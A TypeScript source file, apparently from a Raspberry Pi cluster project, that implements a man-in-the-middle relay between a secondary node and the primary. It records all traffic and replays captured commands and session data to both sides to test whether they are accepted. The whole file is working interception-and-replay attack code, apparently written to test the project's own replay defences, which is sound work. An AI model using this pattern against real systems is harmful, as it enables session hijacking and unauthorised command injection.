/** Somebody in the middle: passes on what a secondary and the primary say, records it, and says it again. */
import { setTimeout as sleep } from 'node:timers/promises'
import { loadJsonConfig } from '@rpi-cluster/core/json-config'
import { OperationalError, stopSignal } from '@rpi-cluster/core/lifecycle'
import { createLogger } from '@rpi-cluster/core/logging'
import { type Connection, connect, listen } from '@rpi-cluster/core/sockets'
import { config } from './config.ts'

const stop = stopSignal()
const log = createLogger('attack')
const { attack: own, secondary } = loadJsonConfig(config, ['attack', 'secondary'], log)
const primary = { peer: 'primary', host: secondary.primaryIp, port: secondary.socketPort, stop }

const middle = await listen({ peer: 'secondary', host: '127.0.0.1', port: own.port, stop, log }, inTheMiddle)
log.info(`Whoever connects to ${middle.address} speaks to the primary through here`)

async function inTheMiddle(victim: Connection) {
  const connection = await connect(primary)
  const said: Buffer[] = []
  const playBack = async (command: Buffer) => {
    await sleep(own.afterSeconds * 1000, undefined, { signal: stop })
    await sayAgain(victim, command)
    await sayAgain(await connect(primary), ...said)
  }
  await Promise.race([
    passOn(victim, connection, (piece) => said.push(piece)),
    passOn(connection, victim, (piece) => {
      if (piece.includes('{"type":"command"')) playBack(piece).catch(tell)
    }),
  ])
  await connection.close()
}

async function passOn(from: Connection, to: Connection, record: (piece: Buffer) => void) {
  for await (const piece of from.chunks()) {
    record(piece)
    await to.write(piece)
  }
}

/** Says something again, a piece after the other, and looks whether whoever hears it stays. */
async function sayAgain(to: Connection, ...pieces: Buffer[]) {
  log.info(`Saying again to ${to.peer}: ${pieces.length} pieces, the last of which is ${pieces.at(-1)}`)
  for (const piece of pieces) await to.write(piece)
  await sleep(1_000, undefined, { signal: stop })
  to.throwIfLost()
  log.info(`It was taken by ${to.peer}`)
}

function tell(error: unknown) {
  if (!(error instanceof OperationalError)) throw error
  log.warn(`It was not taken. ${error.message}`)
}
